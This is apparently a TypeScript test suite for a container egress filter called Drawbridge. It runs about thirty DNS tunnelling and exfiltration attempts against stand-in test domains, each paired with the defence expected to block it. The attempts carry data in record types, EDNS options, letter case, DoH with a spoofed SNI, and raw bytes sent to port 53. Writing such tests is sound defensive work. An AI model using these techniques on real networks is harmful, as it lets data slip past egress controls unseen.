/** Data in questions: whatever is asked, of whomever, a name that is not permitted reaches no resolver. */
import { encryptedHello, helloFor } from '../pure/connections/hello-maker.js';
import { ask, type Query } from './dns.js';
import type { Family } from './report.js';
import { type Attempt, asked, attackSuite, type How, PERMITTED, seen } from './technique.js';

const OURS = 'tunnel.test';
/** Permitted to the attacker: what rides on questions for it must not get out with them. */
const MAY = 'may.attack.test';
const BOTH: readonly Family[] = ['v4', 'v6'];
const ASKED_OF_NONE = 'a name without an entry is answered by Drawbridge, and the query is not forwarded';
const MADE_ANEW = 'the query to the upstream is created from the name and the type alone';
const REDIRECT = "port 53 is redirected to Drawbridge's resolver, whatever the destination address";
const CHAIN = "the container's chain: no entry for that address and port";

const secret = (a: Attempt): string => `${a.tag}.${OURS}`;
const inPayload = (a: Attempt): Promise<boolean> => seen(a, { payloadIncludes: a.tag });
type Shape = (a: Attempt) => Query;
const shaped = (shape: Shape, reached = asked): How => ({
  families: BOTH,
  attack: (a) => ask(a, shape(a)),
  reached,
});
/** A hello with an encrypted one, on a connection that an entry for its address permits; ends once the server or Drawbridge has reacted. */
const hello = (a: Attempt, name: string): Promise<unknown> => {
  const bytes = helloFor(name, encryptedHello(8)).toString('hex');
  const script = `const s = require('node:net').connect(443, '${PERMITTED[a.family]}', () => s.write(Buffer.from('${bytes}', 'hex')));
    s.on('error', () => {}).on('data', () => s.destroy()).on('close', () => process.exit()).setTimeout(8000, () => s.destroy());`;
  return a.attacker.exec(['node', '-e', script]);
};
/** The tag's letters as upper and lower case of a permitted name: data without a byte that does not belong. */
const inCase = (a: Attempt): string => {
  const bits = [...a.tag].map((c) => c.charCodeAt(0) % 2 === 1);
  return [...`one.two.three.four.five.six.${MAY}`]
    .map((c, i) => (bits[i % bits.length] ? c.toUpperCase() : c))
    .join('');
};

attackSuite(
  'DNS tunnels',
  {
    attacker: {
      labels: {
        'drawbridge.allow': `${PERMITTED.v4}:80, [${PERMITTED.v6}]:80, ${PERMITTED.v4}:443, [${PERMITTED.v6}]:443, .${MAY}, !denied.${OURS}`,
      },
      args: ['--dns-search', `search.${OURS}`],
    },
    prepare: (lab) =>
      lab.dns.set({
        [`*.${OURS}`]: { A: ['93.184.90.1'], AAAA: ['2600:9000:90::1'], TXT: ['down'] },
        [MAY]: { A: ['93.184.90.2'] },
        [`*.${MAY}`]: { A: ['93.184.90.2'] },
      }),
  },
  [
    {
      id: 'dns-a',
      title: 'data in A questions',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a) })),
    },
    {
      id: 'dns-aaaa',
      title: 'data in AAAA questions',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a), type: 28 })),
    },
    {
      id: 'dns-txt',
      title: 'data in TXT questions and answers',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a), type: 16 })),
    },
    {
      id: 'dns-null',
      title: 'data in NULL questions (iodine)',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a), type: 10 })),
    },
    {
      id: 'dns-cname',
      title: 'data in CNAME questions',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a), type: 5 })),
    },
    {
      id: 'dns-ptr',
      title: 'data in reverse names',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: `${a.tag}.184.93.in-addr.arpa`, type: 12 })),
    },
    {
      id: 'dns-any',
      title: 'data in ANY questions',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a), type: 255 })),
    },
    {
      id: 'dns-tcp',
      title: 'data in questions over TCP',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a), proto: 'tcp' })),
    },
    {
      id: 'dns-axfr',
      title: 'a zone transfer over TCP',
      stoppedBy: ASKED_OF_NONE,
      ...shaped((a) => ({ name: secret(a), type: 252, proto: 'tcp' })),
    },
    {
      id: 'dns-chaos-class',
      title: 'data in questions of another class',
      stoppedBy: 'classes other than IN are refused',
      ...shaped((a) => ({ name: secret(a), class: 3, type: 16 }), inPayload),
    },
    {
      id: 'dns-edns',
      title: 'data in an EDNS option of a permitted question',
      stoppedBy: MADE_ANEW,
      ...shaped((a) => ({ name: MAY, edns: a.tag }), inPayload),
    },
    {
      id: 'dns-tail',
      title: 'data behind the end of a permitted question',
      stoppedBy: MADE_ANEW,
      ...shaped((a) => ({ name: MAY, tail: a.tag }), inPayload),
    },
    {
      id: 'dns-records',
      title: 'data in records that a permitted question carries',
      stoppedBy: MADE_ANEW,
      ...shaped((a) => ({ name: MAY, records: [{ name: MAY, data: a.tag }] }), inPayload),
    },
    {
      id: 'dns-second-question',
      title: 'a second question behind a permitted one',
      stoppedBy: 'a message with two questions is no question',
      ...shaped((a) => ({ name: MAY, questions: [{ name: secret(a) }] }), inPayload),
    },
    {
      id: 'dns-case',
      title: 'data in the case of the letters of a permitted name',
      stoppedBy: 'the letter case of each upstream query is random (0x20)',
      families: BOTH,
      attack: (a) => ask(a, { name: inCase(a) }),
      reached: async (a) => (await a.lab.dns.queries()).some((q) => q.asked === inCase(a)),
    },
    {
      id: 'dns-response',
      title: 'data in what calls itself an answer',
      stoppedBy: 'what is no question is dropped',
      ...shaped((a) => ({ name: secret(a), flags: 0x8180 }), inPayload),
    },
    {
      id: 'dns-update',
      title: 'data in a dynamic update (RFC 2136)',
      stoppedBy: 'opcodes other than QUERY are refused',
      ...shaped((a) => ({ name: secret(a), flags: 0x2800 }), inPayload),
    },
    {
      id: 'dns-no-dns',
      title: 'bytes that are no DNS, to UDP port 53 of an accomplice',
      stoppedBy: REDIRECT,
      ...shaped(
        (a) => ({ server: a.target, raw: `ssh ${a.tag}` }),
        (a) => seen(a),
      ),
    },
    {
      id: 'dns-no-dns-tcp',
      title: 'any protocol to TCP port 53 of an accomplice',
      stoppedBy: REDIRECT,
      ...shaped(
        (a) => ({ server: a.target, proto: 'tcp', raw: `ssh ${a.tag}` }),
        (a) => seen(a),
      ),
    },
    {
      id: 'dns-other-resolver',
      title: 'the question to a resolver of the attacker',
      stoppedBy: REDIRECT,
      ...shaped(
        (a) => ({ server: a.target, name: secret(a) }),
        async (a) => (await asked(a)) || seen(a),
      ),
    },
    {
      id: 'dns-other-port',
      title: 'the question to a resolver on another port',
      stoppedBy: CHAIN,
      ...shaped(
        (a) => ({ server: a.target, port: 5353, name: secret(a) }),
        (a) => seen(a),
      ),
    },
    {
      id: 'dns-hello',
      title: 'data in the name of a hello whose record would show whether its encrypted name can be read',
      stoppedBy:
        'the record of a name in a hello is looked up if the container may query it itself, and for no other one',
      families: BOTH,
      attack: async (a) => {
        await ask(a, { name: secret(a), type: 65 });
        await hello(a, secret(a));
        if (a.side === 'control') return;
        // the record of a permitted name is looked up: this hello was read
        await hello(a, `record.${MAY}`);
        const queries = await a.lab.dns.queries(`record.${MAY}`);
        if (!queries.some((q) => q.type === 'HTTPS')) throw new Error('no record was looked up at all');
      },
      reached: asked,
    },
    {
      id: 'dns-designated-resolver',
      title: 'looking for encrypted resolvers (RFC 9462)',
      stoppedBy: 'resolver.arpa does not exist here, whatever the policy',
      ...shaped((a) => ({ name: `_dns.${a.tag}.resolver.arpa`, type: 64 })),
    },
    {
      id: 'dns-search-domain',
      title: 'a name completed by the search domain',
      stoppedBy: ASKED_OF_NONE,
      families: ['v4'],
      attack: (a) => a.attacker.probe('http', `http://${a.tag}/`),
      reached: asked,
    },
    {
      id: 'dns-over-tls',
      title: 'DNS over TLS (853) to a resolver of the attacker',
      stoppedBy: CHAIN,
      families: BOTH,
      attack: (a) => a.attacker.probe('tcp', a.target, 853, a.tag),
      reached: (a) => seen(a),
    },
    {
      id: 'dns-over-quic',
      title: 'DNS over QUIC (853/udp) to a resolver of the attacker',
      stoppedBy: CHAIN,
      families: BOTH,
      attack: (a) => a.attacker.probe('udp', a.target, 853, a.tag, '--timeout', 1000),
      reached: (a) => seen(a),
    },
    {
      id: 'dns-over-https',
      title: 'DNS over HTTPS to a resolver that shows a permitted name in TLS',
      stoppedBy: CHAIN,
      families: BOTH,
      attack: (a) => {
        const host = a.family === 'v4' ? a.target : `[${a.target}]`;
        return a.attacker.probe(
          'http',
          `https://${host}/dns-query?dns=${a.tag}`,
          '--sni',
          MAY,
          '--host',
          MAY,
        );
      },
      reached: (a) => seen(a),
    },
    {
      id: 'dns-under-wildcard',
      title: 'data in names below a permitted wildcard',
      stoppedBy: '-',
      notStopped:
        'the operator of the permitted zone sees every name that is queried below it: permit exact names',
      ...shaped((a) => ({ name: `${a.tag}.${MAY}` })),
    },
  ],
);
